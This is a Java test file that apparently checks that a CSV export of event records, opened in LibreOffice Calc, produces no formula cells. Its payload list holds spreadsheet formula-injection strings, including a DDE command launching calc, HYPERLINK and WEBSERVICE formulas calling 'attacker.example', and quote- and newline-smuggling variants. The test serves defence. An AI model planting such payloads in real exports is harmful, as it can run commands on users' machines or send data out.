package dev.recount.evidence.format;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.recount.codec.RecordJson;
import dev.recount.event.Action;
import dev.recount.event.Event;
import dev.recount.event.TestEvents;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Element;
import org.xml.sax.InputSource;

/** What a real spreadsheet makes of an export: every cell is text, none is run. */
@Tag("debian")
class LibreOfficeTest {

    private static final String TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";

    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://attacker.example\";\"x\")",
            "=WEBSERVICE(\"https://attacker.example\")",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r\n=1+1",
            "a\"\r\n=1+1",
            "a\";=1+1",
            "a\",=1+1,\"",
            "\0=1+1",
            "\uFF1D1+1",
            "'=1+1");

    @TempDir
    private Path folder;

    @Test
    void no_cell_of_an_export_is_a_formula() throws Exception {
        var csv = new Csv();
        var text = new StringBuilder(csv.header());
        for (String hostile : HOSTILE) {
            text.append(new String(csv.line(record(hostile)), UTF_8));
        }

        var cells = opened(text.toString());

        assertThat(formulas(cells)).isEmpty();
        assertThat(cells.stream().map(cell -> cell.getTextContent().strip()))
                .contains("'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'=cmd|' /C calc'!A0");
    }

    /** Else the test above would say nothing. */
    @Test
    void without_the_apostrophe_it_would_be_one() throws Exception {
        assertThat(formulas(opened("\"=1+1\",\"a\"\r\n"))).containsExactly("of:=1+1");
    }

    private static SealedRecord record(String hostile) {
        var action = new Action("a", hostile, hostile, null, hostile, null, null, null, null, null);
        var event = TestEvents.EVERYTHING.toBuilder().action(action).build();
        return new SealedRecord(0, RecordJson.of(Event.class).canonical(event));
    }

    /** The cells that LibreOffice Calc shows of a file of this text. */
    private List<Element> opened(String csv) throws Exception {
        Files.writeString(folder.resolve("events.csv"), csv);
        var converted = new ProcessBuilder(
                        "soffice",
                        "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                        "--headless",
                        "--convert-to",
                        "fods",
                        "events.csv")
                .directory(folder.toFile())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("soffice.log").toFile())
                .start();
        assertThat(converted.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(converted.exitValue())
                .as(Files.readString(folder.resolve("soffice.log")))
                .isZero();
        return cells(Files.readString(folder.resolve("events.fods")));
    }

    private static List<Element> cells(String sheet) throws Exception {
        var factory = DocumentBuilderFactory.newDefaultNSInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        var found = factory.newDocumentBuilder()
                .parse(new InputSource(new StringReader(sheet)))
                .getElementsByTagNameNS(TABLE, "table-cell");
        var cells = new ArrayList<Element>();
        for (int i = 0; i < found.getLength(); i++) {
            cells.add((Element) found.item(i));
        }
        return cells;
    }

    private static List<String> formulas(List<Element> cells) {
        return cells.stream()
                .map(cell -> cell.getAttributeNS(TABLE, "formula"))
                .filter(formula -> !formula.isEmpty())
                .toList();
    }
}
